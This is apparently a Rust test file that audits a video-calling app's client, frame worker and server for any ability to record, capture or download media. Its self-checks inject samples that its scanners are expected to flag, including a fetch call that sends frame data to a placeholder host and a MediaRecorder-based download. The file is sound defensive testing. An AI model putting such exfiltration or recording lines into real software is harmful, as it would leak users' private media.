//! There is no way to record in Haven: the browser client uses no API that
//! records, captures or downloads media, and the server declares no route,
//! flag or feature that records. Each check is also shown to catch a
//! violation.

mod common;

use std::path::Path;

use common::audit::{scan_client, scan_frame_worker, scan_server};

fn read_tree(dir: &Path, exts: &[&str], out: &mut Vec<(String, String)>) {
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        if path.is_dir() {
            if name != "node_modules" && name != "target" {
                read_tree(&path, exts, out);
            }
        } else if exts.iter().any(|e| name.ends_with(e)) {
            out.push((
                path.display().to_string(),
                std::fs::read_to_string(&path).unwrap(),
            ));
        }
    }
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn the_browser_client_cannot_record_capture_or_download_media() {
    let mut files = Vec::new();
    read_tree(&root().join("web"), &[".js", ".html", ".css"], &mut files);
    assert!(files.len() >= 10, "the client was not found");
    let found = scan_client(&files);
    assert!(found.is_empty(), "recording APIs in the client: {found:?}");
}

/// End-to-end encryption hands every frame to a worker: it may only seal
/// or open it and give it back to the browser.
#[test]
fn the_frame_worker_sends_frames_nowhere() {
    let worker = std::fs::read_to_string(root().join("web/js/e2ee-worker.js")).unwrap();
    assert!(
        worker.contains("onrtctransform"),
        "the frame worker was not found"
    );
    let found = scan_frame_worker(&worker);
    assert!(
        found.is_empty(),
        "the frame worker could send frames away: {found:?}"
    );
    // A test of the test.
    let evil =
        format!("{worker}\nfetch('https://x', {{ body: frame.data }}); postMessage(frame.data);");
    assert_eq!(
        scan_frame_worker(&evil).len(),
        2,
        "{:?}",
        scan_frame_worker(&evil)
    );
}

#[test]
fn the_server_declares_no_recording_route_flag_or_feature() {
    let mut files = Vec::new();
    for dir in ["src", "sfu/src", "signaling/src", "recorder-disabled/src"] {
        read_tree(&root().join(dir), &[".rs"], &mut files);
    }
    for manifest in [
        "Cargo.toml",
        "sfu/Cargo.toml",
        "signaling/Cargo.toml",
        "recorder-disabled/Cargo.toml",
    ] {
        let path = root().join(manifest);
        files.push((
            path.display().to_string(),
            std::fs::read_to_string(&path).unwrap(),
        ));
    }
    let found = scan_server(&files);
    assert!(
        found.is_empty(),
        "something that records is declared: {found:?}"
    );
}

/// The scans catch what they must (a test of the tests).
#[test]
fn the_scans_catch_a_recorder() {
    let client = vec![(
        "evil.js".to_string(),
        "const r = new MediaRecorder(stream); a.download = 'session.webm'; URL.createObjectURL(blob);".to_string(),
    )];
    assert_eq!(scan_client(&client).len(), 3);
    // Encoded transforms anywhere but the encryption module are caught.
    let transform = vec![(
        "web/js/gallery.js".to_string(),
        "new RTCRtpScriptTransform(worker)".to_string(),
    )];
    assert_eq!(scan_client(&transform).len(), 1);
    let server = vec![
        (
            "http.rs".to_string(),
            r#".route("/api/sessions/{id}/recording", post(start_recording))"#.to_string(),
        ),
        (
            "main.rs".to_string(),
            "#[arg(long = \"record-to\")]".to_string(),
        ),
        (
            "Cargo.toml".to_string(),
            "[features]\nrecording = []".to_string(),
        ),
    ];
    assert_eq!(scan_server(&server).len(), 3, "{:?}", scan_server(&server));
}
